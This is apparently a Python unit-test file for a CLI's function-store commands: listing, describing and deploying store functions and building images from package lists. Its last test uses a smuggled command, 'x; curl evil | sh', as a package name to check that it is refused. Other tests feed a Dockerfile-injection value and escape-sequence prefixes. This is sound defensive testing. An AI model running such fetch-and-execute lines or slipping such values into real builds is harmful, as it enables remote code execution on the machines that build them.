"""`penstock store`: what a store has, and what is asked of a gateway that runs programs and of one that runs images."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import Result

from penstock.builders import watchdogimage
from penstock.builders.model import BuildRequest, Built, Progress
from penstock.cli import storefunctions
from penstock.cli.storefunctions import dockerfile, with_program
from penstock.errors import BuildFailed, NotFound, Unauthorized
from penstock.functionstore.model import StoreFunction
from tests.unit.cli.support import Answer, ScriptedGateway, answer_json, run_cli

PUT = "PUT /system/functions"
INFO = "GET /system/info"
STORE = {
    "version": "0.2.1",
    "functions": [
        {
            "name": "figlet",
            "title": "Figlet",
            "author": "Somebody",
            "description": "Large letters, " + "very " * 20 + "large",
            "fprocess": "figlet",
            "images": {"x86_64": "some/figlet:1", "ARM64": "some/figlet:1-arm"},
            "labels": {"a": "store", "b": "store"},
            "annotations": {"a": "store"},
            "environment": {"a": "store", "b": "store"},
            "readOnlyRootFilesystem": True,
        },
        {"name": "armonly", "description": "Nothing here", "images": {"arm64": "some/arm:1"}},
        {"name": "packed", "fprocess": "sh -c $HOME", "packages": ["bash", "jq"]},
        {"name": "bare", "fprocess": "cat"},
    ],
}


@pytest.fixture(autouse=True)
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    file = tmp_path / "store.json"
    file.write_text(json.dumps(STORE))
    monkeypatch.setenv("OPENFAAS_STORE", str(file))
    monkeypatch.chdir(tmp_path)
    return file


def provider(gateway: ScriptedGateway, name: str) -> None:
    gateway.on(INFO, answer_json({"provider": {"provider": name}}))
    gateway.on(PUT, Answer(202))


class Engine:
    """A builder of images that remembers what it was asked for."""

    name = "docker"
    makes_images = True

    def __init__(self, words: str = "") -> None:
        self.words = words
        self.requests: list[BuildRequest] = []
        self.dockerfiles: list[str] = []
        self.pushed: list[str] = []
        self.provider = "penstock-docker"
        self.refuses_pushes = False

    def build(self, request: BuildRequest, progress: Progress) -> Built:
        self.requests.append(request)
        folder = request.template.folder if request.template else Path(request.function.handler)
        self.dockerfiles.append((folder / "Dockerfile").read_text())
        if self.words:
            raise BuildFailed("it did not work", self.words)
        return Built(function=request.function.name, image=request.image)

    def push(self, image: str, progress: Progress) -> None:
        if self.refuses_pushes:
            raise Unauthorized("wants a login")
        self.pushed.append(image)

    def cancel(self) -> None:
        """Nothing runs."""


@pytest.fixture
def engine(monkeypatch: pytest.MonkeyPatch) -> Engine:
    made = Engine()
    monkeypatch.setattr(storefunctions, "builder_for", lambda wish, target, needed: (made, made.provider))
    return made


def test_list_shows_what_there_is_for_the_platform() -> None:
    lines = run_cli("store", "list").stdout.splitlines()
    assert [line.split("\t")[0].strip() for line in lines] == ["FUNCTION", "bare", "figlet", "packed"]
    assert lines[2].endswith("...")
    assert "armonly" in run_cli("store", "list", "-p", "Arm64").stdout
    assert "armonly" in run_cli("store", "-p", "arm64", "ls").stdout


def test_verbose_shows_whole_descriptions_programs_packages_and_images() -> None:
    text = run_cli("store", "list", "-v", "-p", "arm64").stdout
    assert "very large" in text and "some/figlet:1-arm" in text and "bash jq" in text and "sh -c $HOME" in text


def test_json_has_the_keys_of_the_stores_file() -> None:
    listed = json.loads(run_cli("store", "list", "-j").stdout)
    assert listed[1]["images"]["x86_64"] == "some/figlet:1"
    assert listed[1]["readOnlyRootFilesystem"] is True
    assert json.loads(run_cli("store", "inspect", "packed", "-j").stdout) == STORE["functions"][2]


def test_another_store_is_named_at_the_group_or_at_the_verb(tmp_path: Path) -> None:
    (tmp_path / "other.json").write_text(json.dumps([{"name": "other", "image": "some/other:1"}]))
    assert "other" in run_cli("store", "list", "--url", "other.json").stdout
    assert "other" in run_cli("store", "-u", "other.json", "list").stdout
    assert run_cli("store", "list", "-u", "nosuch.json").exit_code == 1
    (tmp_path / "broken.json").write_text("{")
    assert run_cli("store", "list", "-u", "broken.json").exit_code == 2


@pytest.mark.parametrize("verb", ["describe", "inspect"])
@pytest.mark.parametrize("name", ["figlet", "Figlet"])
def test_describe_finds_by_name_and_title(verb: str, name: str) -> None:
    text = run_cli("store", verb, name).stdout
    assert "Author:         Somebody\n" in text
    assert "Image:          some/figlet:1\n" in text
    assert "Labels:         a: store\n                b: store\n" in text
    assert "Packages" not in text
    assert "Packages:       <none>" in run_cli("store", verb, name, "--verbose").stdout


def test_an_unknown_name_is_answered_with_the_nearest() -> None:
    result = run_cli("store", "describe", "figlt")
    assert (result.exit_code, result.stdout) == (1, "")
    assert "did you mean figlet?" in result.stderr


def test_an_image_of_the_store_is_deployed_and_flags_win(gateway: ScriptedGateway) -> None:
    provider(gateway, "penstock-docker")
    flags = (
        "-e",
        "a=flag",
        "-l",
        "a=flag",
        "--annotation",
        "a=flag",
        "--secret",
        "s",
        "--constraint",
        "c",
        "-n",
        "staging",
    )
    result = run_cli("store", "deploy", "figlet", "--name", "banner", "--cpu-limit", "500m", "--no-wait", *flags)
    assert result.exit_code == 0, result.stderr
    assert gateway.requests[-1].json == {
        "service": "banner",
        "namespace": "staging",
        "image": "some/figlet:1",
        "envProcess": "figlet",
        "envVars": {"a": "flag", "b": "store"},
        "labels": {"a": "flag", "b": "store"},
        "annotations": {"a": "flag"},
        "secrets": ["s"],
        "constraints": ["c"],
        "limits": {"cpu": "500m"},
        "readOnlyRootFilesystem": True,
    }
    assert f"URL: {gateway.url}/function/banner.staging" in result.stdout


@pytest.mark.parametrize(
    ("flags", "image"),
    [(("-p", "arm64"), "some/figlet:1-arm"), (("--image", "mine:2"), "mine:2")],
    ids=["platform", "image"],
)
def test_platform_and_image_choose_the_image(gateway: ScriptedGateway, flags: tuple[str, ...], image: str) -> None:
    provider(gateway, "faas-netes")
    assert run_cli("store", "deploy", "figlet", "--no-wait", *flags).exit_code == 0
    assert gateway.requests[-1].json["image"] == image


def test_a_platform_without_an_image_names_those_that_there_are(gateway: ScriptedGateway) -> None:
    provider(gateway, "penstock-docker")
    result = run_cli("store", "deploy", "armonly")
    assert result.exit_code == 1
    assert "no image for 'x86_64'; it has arm64" in result.stderr
    assert PUT not in gateway.lines


def test_packages_become_an_image_whose_name_follows_from_the_recipe(gateway: ScriptedGateway, engine: Engine) -> None:
    provider(gateway, "penstock-docker")
    images = []
    for flags in ((), (), ("-b", "BASE=debian:13-slim")):
        assert run_cli("store", "deploy", "packed", "--no-wait", *flags).exit_code == 0
        images.append(gateway.requests[-1].json["image"])
    assert images[0] == images[1] != images[2]
    assert images[0].startswith("penstock-store/packed:")
    assert engine.requests[2].build_args["BASE"] == "debian:13-slim"
    assert "apt-get install -y --no-install-recommends bash jq " in engine.dockerfiles[0]
    assert gateway.requests[-1].json["envProcess"] == "sh -c $HOME"
    assert not Path("build").exists()


def test_another_watchdog_makes_another_name(
    gateway: ScriptedGateway, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    names = set()
    for tag in ("one", "two"):
        monkeypatch.setattr(watchdogimage, "reference", lambda tag=tag: f"penstock-watchdog:{tag}")
        deploy_packed(gateway, engine, "penstock-docker")
        deploy_packed(gateway, engine, "penstock-docker", "-b", "WATCHDOG=mine:1")
        names |= {request.image for request in engine.requests}
    assert len(names) == 3


def deploy_packed(gateway: ScriptedGateway, engine: Engine, name: str, *flags: str, **env: str | None) -> Result:
    engine.provider = name
    provider(gateway, name)
    return run_cli("store", "deploy", "packed", "--no-wait", *flags, env=env)


def test_a_built_image_is_pushed_to_where_the_prefix_says(gateway: ScriptedGateway, engine: Engine) -> None:
    result = deploy_packed(gateway, engine, "penstock-docker", "--prefix", "registry.example.com:5000/ada/")
    assert result.exit_code == 0, result.stderr
    [image] = engine.pushed
    assert image.startswith("registry.example.com:5000/ada/packed:")
    assert gateway.requests[-1].json["image"] == image
    assert "Warning" not in result.stderr


@pytest.mark.parametrize(("name", "pushed"), [("penstock-swarm", True), ("penstock-docker", False)])
def test_the_prefix_of_the_environment_counts_for_other_machines(
    gateway: ScriptedGateway, engine: Engine, name: str, pushed: bool
) -> None:
    assert deploy_packed(gateway, engine, name, OPENFAAS_PREFIX="ada").exit_code == 0
    assert [image.startswith("ada/packed:") for image in engine.pushed] == [True] * pushed


def test_who_has_no_prefix_on_a_swarm_is_told_of_it(gateway: ScriptedGateway, engine: Engine) -> None:
    result = deploy_packed(gateway, engine, "penstock-swarm", OPENFAAS_PREFIX=None)
    assert result.exit_code == 0
    assert "is on this machine alone" in result.stderr
    assert "--prefix" in result.stderr and "--image" in result.stderr
    assert engine.pushed == []
    assert "Warning" not in deploy_packed(gateway, engine, "penstock-docker", OPENFAAS_PREFIX=None).stderr


def test_nothing_is_deployed_when_the_push_fails(gateway: ScriptedGateway, engine: Engine) -> None:
    engine.refuses_pushes = True
    result = deploy_packed(gateway, engine, "penstock-swarm", "--prefix", "ada")
    assert result.exit_code == 1
    assert "wants a login" in result.stderr
    assert PUT not in gateway.lines


@pytest.mark.parametrize("prefix", ["a/UPPER", "a b", "http://x/y", "../..", "-x", "a\x1b[31m"])
def test_a_prefix_that_cannot_begin_a_name(gateway: ScriptedGateway, engine: Engine, prefix: str) -> None:
    result = deploy_packed(gateway, engine, "penstock-docker", f"--prefix={prefix}")
    assert result.exit_code == 2
    assert "cannot begin the name of an image" in result.stderr
    assert "\x1b" not in result.stderr
    assert engine.requests == []


def test_a_prefix_is_for_what_is_built(gateway: ScriptedGateway) -> None:
    provider(gateway, "penstock-docker")
    assert "--prefix: is for an image that is built" in run_cli("store", "deploy", "figlet", "--prefix", "a").stderr


@pytest.mark.parametrize(
    ("flags", "labels"),
    [
        (("--zero", "pause"), {"com.penstock.zero": "pause"}),
        (("--capability", "CHOWN", "--capability", "KILL"), {"com.penstock.capabilities": "CHOWN,KILL"}),
        (("--watchdog", "image"), {"com.penstock.watchdog": "image"}),
    ],
)
def test_flags_of_containers_become_labels(
    gateway: ScriptedGateway, flags: tuple[str, ...], labels: dict[str, str]
) -> None:
    provider(gateway, "penstock-docker")
    assert run_cli("store", "deploy", "figlet", "--no-wait", *flags).exit_code == 0
    asked = gateway.requests[-1].json
    assert asked["labels"] == {"a": "store", "b": "store", **labels}
    assert asked["envProcess"] == "figlet"


def test_an_image_that_serves_by_itself_is_not_given_the_stores_program(gateway: ScriptedGateway) -> None:
    provider(gateway, "penstock-docker")
    assert run_cli("store", "deploy", "figlet", "--no-wait", "--http-port", "80").exit_code == 0
    asked = gateway.requests[-1].json
    assert asked["labels"]["com.penstock.http-port"] == "80"
    assert "envProcess" not in asked


@pytest.mark.parametrize(
    ("name", "flags", "words"),
    [
        ("penstock-process", ("--zero", "pause", "--prefix", "a"), "--zero and --prefix: the gateway at"),
        ("penstock-docker", ("--zero", "pause", "-l", "com.penstock.zero=stop"), "exclude each other"),
        ("penstock-docker", ("--http-port", "80", "--fprocess", "cat"), "serves HTTP by itself"),
    ],
)
def test_flags_of_containers_that_cannot_be_meant(
    gateway: ScriptedGateway, name: str, flags: tuple[str, ...], words: str
) -> None:
    provider(gateway, name)
    result = run_cli("store", "deploy", "figlet", *flags)
    assert result.exit_code != 0
    assert words in result.stderr
    assert PUT not in gateway.lines


def test_code_becomes_an_image_by_its_template(
    gateway: ScriptedGateway, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("OPENFAAS_STORE")
    provider(gateway, "penstock-docker")
    assert run_cli("store", "deploy", "nodeinfo", "--no-wait").exit_code == 0
    [request] = engine.requests
    assert request.template is not None and request.template.name == "python3-http"
    assert request.image.startswith("penstock-store/nodeinfo:")
    assert gateway.requests[-1].json["image"] == request.image


def test_a_build_that_fails_is_told_in_its_own_words_and_nothing_is_deployed(
    gateway: ScriptedGateway, engine: Engine
) -> None:
    provider(gateway, "penstock-docker")
    engine.words = "E: Unable to locate package"
    result = run_cli("store", "deploy", "packed")
    assert result.exit_code == 1
    assert "E: Unable to locate package" in result.stderr
    assert PUT not in gateway.lines


def test_neither_image_nor_packages_asks_for_an_image(gateway: ScriptedGateway, engine: Engine) -> None:
    provider(gateway, "penstock-docker")
    result = run_cli("store", "deploy", "bare")
    assert result.exit_code == 2
    assert "give an image by --image" in result.stderr


def test_programs_are_deployed_without_image_where_programs_run(gateway: ScriptedGateway) -> None:
    provider(gateway, "penstock-process")
    assert run_cli("store", "deploy", "bare", "--fprocess", "cat -n", "--no-wait").exit_code == 0
    assert gateway.requests[-1].json == {"service": "bare", "envProcess": "cat -n", "labels": {}, "annotations": {}}


def test_an_image_alone_asks_for_a_program_where_programs_run(gateway: ScriptedGateway) -> None:
    provider(gateway, "penstock-process")
    result = run_cli("store", "deploy", "armonly")
    assert result.exit_code == 1
    assert "give it by --fprocess" in result.stderr
    assert "runs programs, not images" in run_cli("store", "deploy", "figlet", "--image", "x").stderr


def test_a_missing_program_names_its_packages(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(NotFound, match=r"sh, which is not installed on this machine: apt-get install bash jq$"):
        with_program(StoreFunction(name="a", packages=("bash", "jq")), "sh x")


def test_a_program_whose_name_others_have_is_named_absolutely(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for folder, says in (("first", "other"), ("second", "Version: ImageMagick 6")):
        (tmp_path / folder).mkdir()
        program = tmp_path / folder / "identify"
        program.write_text(f"#!/bin/sh\necho {says}\n")
        program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path / 'first'}:{tmp_path / 'second'}")
    assert with_program(StoreFunction(name="a"), "identify -") == f"{tmp_path / 'second' / 'identify'} -"


def test_a_recipe_quotes_its_program() -> None:
    text = dockerfile(StoreFunction(name="a", fprocess='sh -c "$X"\nUSER root', packages=("bash",)))
    assert 'ENV fprocess="sh -c \\"\\$X\\"\\nUSER root"\n' in text


def test_packages_that_are_none_are_refused(store: Path) -> None:
    store.write_text(json.dumps({"functions": [{"name": "a", "fprocess": "a", "packages": ["x; curl evil | sh"]}]}))
    result = run_cli("store", "list")
    assert result.exit_code == 2
    assert "cannot be a Debian package" in result.stderr
